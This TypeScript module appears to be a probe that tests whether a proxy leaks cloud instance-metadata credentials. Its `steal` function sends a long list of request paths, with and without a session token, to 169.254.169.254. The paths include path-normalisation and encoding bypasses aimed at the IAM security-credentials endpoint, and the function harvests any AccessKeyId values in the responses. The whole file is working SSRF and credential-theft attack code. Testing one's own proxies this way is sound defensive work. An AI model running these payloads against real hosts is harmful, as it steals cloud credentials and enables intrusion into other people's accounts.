import { bodyOf, type Destination, exchange } from "./exchange.ts";

/** What a theft brought. */
export interface Loot {
  readonly attempts: number;
  /** The requests whose answer held something of the host's. */
  readonly stolen: readonly string[];
  /** Those of all credentials that any answer held. */
  readonly accessKeyIds: readonly string[];
}

export interface TheftTarget extends Destination {
  /** A name that only the host's own answers hold: its role's. */
  readonly hostRoleName: string;
}

const ROLE_PATH = "meta-data/iam/security-credentials";

/** Spellings under which other proxies gave the host's credentials away. */
const paths = (roleName: string): readonly string[] =>
  ["latest", "1.0", "2021-03-23", "LATEST"].flatMap((version) => [
    `/${version}/${ROLE_PATH}`,
    `/${version}/${ROLE_PATH}/${roleName}`,
    `//${version}//${ROLE_PATH}//${roleName}`,
    `/${version}/./${ROLE_PATH}/${roleName}`,
    `/${version}/x/../${ROLE_PATH}/${roleName}`,
    `/${version}/meta-data/%69am/security-credentials/${roleName}`,
    `/${version}/meta-data/iam/security%252Dcredentials/${roleName}`,
    `/${version}/meta-data/iam%2fsecurity-credentials/${roleName}`,
    `/${version}/meta-data/iam/security-credentials\\${roleName}`,
    `/${version}/${ROLE_PATH}/${roleName}?x=1#y`,
    `/${version}/meta-data/identity-credentials/ec2/security-credentials/ec2-instance`,
    `/${version}/user-data`,
    `http://169.254.169.254/${version}/${ROLE_PATH}/${roleName}`,
  ]);

/** Asks for the host's credentials in every way known, with a good token and without one. */
export async function steal(target: TheftTarget): Promise<Loot> {
  const token = bodyOf(await exchange(target, tokenRequest()));
  const requests = paths(target.hostRoleName).flatMap((path) => [
    request("GET", path),
    request("GET", path, token),
    request("POST", path, token),
  ]);
  const stolen: string[] = [];
  const accessKeyIds = new Set<string>();
  for (const text of requests) {
    const body = bodyOf(await exchange(target, text));
    for (const [, id = ""] of body.matchAll(ACCESS_KEY_ID)) accessKeyIds.add(id);
    if (body.includes(target.hostRoleName) || body.includes("SecretAccessKey"))
      stolen.push(text.split("\r\n")[0] ?? "");
  }
  return { attempts: requests.length, stolen, accessKeyIds: [...accessKeyIds] };
}

const ACCESS_KEY_ID = /"AccessKeyId"\s*:\s*"(\w+)"/g;

const tokenRequest = (): string =>
  "PUT /latest/api/token HTTP/1.0\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n";

const request = (method: string, path: string, token?: string): string =>
  `${method} ${path} HTTP/1.0\r\nHost: 169.254.169.254\r\n${token === undefined ? "" : `X-aws-ec2-metadata-token: ${token}\r\n`}\r\n`;
